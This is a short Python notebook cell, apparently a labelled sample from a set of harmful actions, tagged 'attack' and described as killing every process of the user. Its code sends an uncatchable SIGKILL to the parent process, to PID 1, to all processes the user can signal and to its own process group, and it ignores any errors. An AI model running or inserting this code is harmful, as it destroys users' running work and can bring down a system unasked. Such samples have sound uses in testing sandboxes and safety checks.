# %% [markdown] harm="kills every process of the user"
# Sends the signal that cannot be caught to everybody and to the processes above it.

# %% attack="last"
import os
import signal

for process in (os.getppid(), 1, -1, 0):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
